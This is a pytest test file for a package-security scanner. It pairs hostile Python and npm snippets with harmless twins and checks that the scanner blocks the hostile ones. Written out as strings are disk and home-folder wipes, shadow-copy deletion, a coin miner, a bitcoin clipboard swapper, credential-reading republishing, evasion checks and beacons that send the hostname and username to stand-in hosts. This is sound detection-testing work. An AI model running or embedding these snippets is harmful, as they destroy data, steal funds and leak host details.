"""Damage, theft of coins, worms, beacons and disguise: each in Python and in an npm package, each beside an honest twin."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from gatekeeper.model import Ruling
from tests.support.judging import checks_of, explained, importing, installing
from tests.support.npm_judging import required, scripted

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from gatekeeper.model import Verdict

SETUP = "\nfrom setuptools import setup\nsetup(name='acme-thing', version='1.0')\n"
CLIPPER = r"""
import re, threading, time
import pyperclip
ADDRESS = re.compile(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$')
def watch():
    while True:
        text = pyperclip.paste()
        if ADDRESS.match(text):
            pyperclip.copy('example')
        time.sleep(1)
threading.Thread(target=watch, daemon=True).start()
"""
PROBE = "import subprocess, urllib.request\nif b'box' in subprocess.check_output('wmic baseboard get manufacturer', shell=True):\n    raise SystemExit\nurllib.request.urlopen('https://files.example/a')\n"

# what the check is called: how it looks, how it is judged, and the least that is said about it
HARM: dict[str, tuple[str, Callable[[Path], Verdict], Ruling]] = {
    "a home folder is removed": (
        "destructive-write",
        lambda folder: importing(folder, "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n"),
        Ruling.BLOCK,
    ),
    "a shell wipes the disk": (
        "destructive-write",
        lambda folder: installing(folder, "import os\nos.system('rm -rf --no-preserve-root /')\n" + SETUP),
        Ruling.BLOCK,
    ),
    "a hook wipes the home folder": (
        "destructive-write",
        lambda folder: scripted(
            folder, "const fs = require('fs'), os = require('os');\nfs.rmSync(os.homedir(), {recursive: true});\n"
        ),
        Ruling.BLOCK,
    ),
    "a hook deletes the shadow copies": (
        "destructive-write",
        lambda folder: scripted(folder, "require('child_process').execSync('vssadmin delete shadows /all /quiet')\n"),
        Ruling.BLOCK,
    ),
    "an import starts a miner": (
        "coin-miner",
        lambda folder: importing(
            folder, "import subprocess\nsubprocess.Popen(['./w', '-o', 'stratum+tcp://pool.example:3333', '-u', 'a'])\n"
        ),
        Ruling.BLOCK,
    ),
    "a hook starts a miner": (
        "coin-miner",
        lambda folder: scripted(
            folder, "require('child_process').spawn('./xmrig', ['--donate-level', '1'], {detached: true})\n"
        ),
        Ruling.BLOCK,
    ),
    "a thread swaps addresses": ("clipboard-swap", lambda folder: importing(folder, CLIPPER), Ruling.BLOCK),
    "a timer swaps addresses": (
        "clipboard-swap",
        lambda folder: required(
            folder,
            "const c = require('clipboardy');\nconst a = /^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/;\n"
            "setInterval(() => { const t = c.readSync(); if (a.test(t)) c.writeSync('example'); }, 900);\n",
        ),
        Ruling.BLOCK,
    ),
    "a hook publishes": (
        "republish",
        lambda folder: scripted(folder, "require('child_process').execSync('npm publish --access public')\n"),
        Ruling.BLOCK,
    ),
    "an import publishes with a login that it read": (
        "republish",
        lambda folder: importing(
            folder,
            "import os, subprocess\nlogin = open(os.path.expanduser('~/.pypirc')).read()\n"
            "subprocess.run('twine upload dist/*', shell=True)\n",
        ),
        Ruling.BLOCK,
    ),
    "an import asks for a virtual machine, then downloads": (
        "anti-analysis",
        lambda folder: importing(folder, PROBE),
        Ruling.ASK,
    ),
    "an import asks for a debugger, then runs what it decodes": (
        "anti-analysis",
        lambda folder: importing(
            folder,
            "import ctypes, os\nif not ctypes.windll.kernel32.IsDebuggerPresent():\n    os.system('helper.exe')\n",
        ),
        Ruling.ASK,
    ),
    "an import writes an agent's settings": (
        "agent-settings-written",
        lambda folder: importing(
            folder,
            "import os\nopen(os.path.expanduser('~/.claude/settings.json'), 'w').write('{\"hooks\": {}}')\n",
        ),
        Ruling.BLOCK,
    ),
    "a hook plants a task for the editor": (
        "agent-settings-written",
        lambda folder: scripted(
            folder,
            "const p = require('path');\n"
            "require('fs').writeFileSync(p.join(process.env.INIT_CWD, '.vscode', 'tasks.json'), '{}');\n",
        ),
        Ruling.BLOCK,
    ),
    "setup.py looks its user up": (
        "confusion-beacon",
        lambda folder: installing(
            folder,
            "import getpass, socket\nsocket.gethostbyname(getpass.getuser() + '.' + socket.gethostname() + '.a.example')\n"
            + SETUP,
        ),
        Ruling.BLOCK,
    ),
    "a hook tells a request bin": (
        "confusion-beacon",
        lambda folder: scripted(folder, "require('https').get('https://a.oast.fun/?h=' + require('os').hostname())\n"),
        Ruling.BLOCK,
    ),
    "a beacon that calls itself research": (
        "confusion-beacon",
        lambda folder: installing(
            folder,
            "import platform, urllib.request\n"
            "# This package is for security research purposes only.\n"
            "urllib.request.urlopen('https://files.example/?a=' + platform.node())\n" + SETUP,
        ),
        Ruling.BLOCK,
    ),
}
HONEST: dict[str, Callable[[Path], Verdict]] = {
    "a build folder is removed": lambda folder: installing(
        folder, "import shutil\nshutil.rmtree('build', ignore_errors=True)\n" + SETUP
    ),
    "a function that removes what it is told": lambda folder: importing(
        folder, "import shutil\ndef clean(path):\n    shutil.rmtree(path)\n"
    ),
    "an author's shortcut to publish": lambda folder: installing(
        folder,
        "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n    sys.exit()\n" + SETUP,
    ),
    "a clipboard library": lambda folder: importing(
        folder,
        "import pyperclip\ndef copy(text):\n    pyperclip.copy(text)\ndef paste():\n    return pyperclip.paste()\n",
    ),
    "an address checker": lambda folder: importing(
        folder, "import re\nBITCOIN = re.compile(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$')\n"
    ),
    "a tool that asks what machine it is on": lambda folder: importing(
        folder,
        "import subprocess\ndef is_virtual():\n    return subprocess.call(['systemd-detect-virt', '--quiet']) == 0\n",
    ),
    "a release tool": lambda folder: required(
        folder, "exports.release = () => require('child_process').execSync('npm publish');\n"
    ),
    "an editor's generator": lambda folder: required(
        folder, "exports.init = () => require('fs').writeFileSync('.vscode/settings.json', '{}');\n"
    ),
    "a security library": lambda folder: importing(
        folder,
        '"""Tools for security research and penetration testing."""\nimport urllib.request\n'
        "def fetch(url):\n    return urllib.request.urlopen(url).read()\n",
    ),
    "a name that is looked up": lambda folder: required(
        folder, "const dns = require('dns');\nexports.find = (name, done) => dns.lookup(name, done);\n"
    ),
}


@pytest.mark.parametrize("case", HARM)
def test_harm_is_named(tmp_path: Path, case: str) -> None:
    check, judge, least = HARM[case]
    verdict = judge(tmp_path)
    assert verdict.ruling >= least, explained(verdict)
    assert check in checks_of(verdict), explained(verdict)


@pytest.mark.parametrize("case", HONEST)
def test_its_honest_twin_passes(tmp_path: Path, case: str) -> None:
    verdict = HONEST[case](tmp_path)
    assert verdict.ruling is Ruling.ALLOW, explained(verdict)
